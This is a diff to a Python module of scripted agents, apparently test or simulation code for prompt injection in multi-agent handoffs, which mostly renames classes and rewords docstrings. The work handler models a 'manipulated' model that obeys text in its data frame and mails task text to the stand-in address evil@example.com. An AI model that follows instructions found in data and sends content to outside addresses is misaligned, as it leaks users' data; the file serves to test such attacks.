@@ -1,4 +1,4 @@
-"""Agents that hand work to one another. Their models are scripted, and obey whatever they read."""
+"""Agents that hand work to one another. Their scripted models obey any text they read."""
 
 from __future__ import annotations
 
@@ -28,7 +28,7 @@ DOCUMENTS = Path(__file__).parent
 @xmlify
 @dataclass(frozen=True, slots=True)
 class Read:
-    """Asks for a document to be read.
+    """Request to read a document.
 
     Args:
         document: its name.
@@ -40,10 +40,10 @@ class Read:
 @xmlify
 @dataclass(frozen=True, slots=True)
 class Report:
-    """What came of a document.
+    """Report about a document.
 
     Args:
-        line: what became of each request in it.
+        line: outcome of each request in it.
     """
 
     line: tuple[str, ...] = ()
@@ -52,7 +52,7 @@ class Report:
 @xmlify
 @dataclass(frozen=True, slots=True)
 class Lookup:
-    """Asks for a ticket."""
+    """Request for a ticket."""
 
     ticket: str
 
@@ -68,7 +68,7 @@ class Ticket:
 @xmlify
 @dataclass(frozen=True, slots=True)
 class Mail:
-    """A mail to anybody."""
+    """Mail to any address."""
 
     to: str
     text: str
@@ -77,21 +77,21 @@ class Mail:
 @xmlify
 @dataclass(frozen=True, slots=True)
 class Sent:
-    """A mail has left."""
+    """Receipt for a sent mail."""
 
     to: str
 
 
 @xmlify
 @dataclass(frozen=True, slots=True)
-class Finished:
-    """What a target did."""
+class TaskResult:
+    """Outcome of a task."""
 
     said: str
 
 
-async def asked_for(document: str) -> list[Handoff]:
-    """What the reader's model makes of a document: every request that stands in it, as it stands there."""
+async def list_handoffs(document: str) -> list[Handoff]:
+    """List the handoffs that a document requests, verbatim, as an obedient model would."""
     scanner = Scanner()
     text = await anyio.Path(DOCUMENTS / document).read_text("utf-8")
     found = [handoff(request(each)) for each in (*scanner.feed(text), *scanner.end())]
@@ -99,9 +99,9 @@ async def asked_for(document: str) -> list[Handoff]:
 
 
 async def read(
-    payload: Read | Finished | Ticket | SystemError, metadata: HandlerMetadata
+    payload: Read | TaskResult | Ticket | SystemError, metadata: HandlerMetadata
 ) -> HandlerResponse | None:
-    """Ask for one thing after the other, and report what became of each."""
+    """Request one handoff after the other, and report the outcome of each."""
     storage = invocation().storage
     done = storage.get(Report, Report()) or Report()
     document = storage.get(Read)
@@ -109,12 +109,12 @@ async def read(
         case Read():
             document = payload
             storage.set(payload)
-        case Finished():
+        case TaskResult():
             done = Report((*done.line, payload.said))
         case SystemError():
             done = Report((*done.line, f"refused: {payload.code}"))
     storage.set(done)
-    requests = await asked_for(document.document) if document else []
+    requests = await list_handoffs(document.document) if document else []
     if len(done.line) < len(requests):
         wanted = requests[len(done.line)]
         return HandlerResponse(wanted, wanted.target or "nobody")
@@ -124,24 +124,24 @@ async def read(
 async def work(
     payload: Task | Ticket | Sent | SystemError, metadata: HandlerMetadata
 ) -> HandlerResponse | None:
-    """Do as one is told, by the words in the data frame too: the model has been talked round."""
+    """Obey any text, including the text in the data frame: the model has been manipulated."""
     match payload:
         case Task(data=(words, *_)) if "mail" in words.text:
             return HandlerResponse(Mail("evil@example.com", words.text), "outbox")
         case Task():
-            return HandlerResponse.respond(Finished(f"done: {payload.steering}"))
+            return HandlerResponse.respond(TaskResult(f"done: {payload.steering}"))
         case SystemError():
-            return HandlerResponse.respond(Finished(f"could not mail: {payload.code}"))
+            return HandlerResponse.respond(TaskResult(f"could not mail: {payload.code}"))
         case Sent():
-            return HandlerResponse.respond(Finished(f"mailed to {payload.to}"))
-    return HandlerResponse.respond(Finished(f"done: {payload.title}"))
+            return HandlerResponse.respond(TaskResult(f"mailed to {payload.to}"))
+    return HandlerResponse.respond(TaskResult(f"done: {payload.title}"))
 
 
 async def look_up(payload: Lookup, metadata: HandlerMetadata) -> HandlerResponse:
-    """Give a ticket."""
+    """Return a ticket."""
     return HandlerResponse.respond(Ticket(f"{payload.ticket}: launch of the badger club"))
 
 
 async def send(payload: Mail, metadata: HandlerMetadata) -> HandlerResponse:
-    """Let a mail leave."""
+    """Send a mail."""
     return HandlerResponse.respond(Sent(payload.to))
